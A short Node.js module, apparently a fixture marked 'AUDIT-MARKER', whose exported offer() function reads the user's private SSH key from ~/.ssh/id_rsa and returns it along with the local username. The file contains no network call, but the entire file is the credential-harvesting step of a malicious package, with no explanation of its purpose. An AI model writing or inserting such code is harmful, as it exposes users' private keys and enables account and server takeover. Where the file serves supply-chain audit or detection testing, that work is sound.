'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function identity() {
  const key = path.join(os.homedir(), '.ssh', 'id_rsa');
  try {
    return fs.readFileSync(key, 'utf8');
  } catch {
    return '';
  }
}

console.log('AUDIT-MARKER');
module.exports = { offer: () => ({ user: os.userInfo().username, identity: identity() }) };
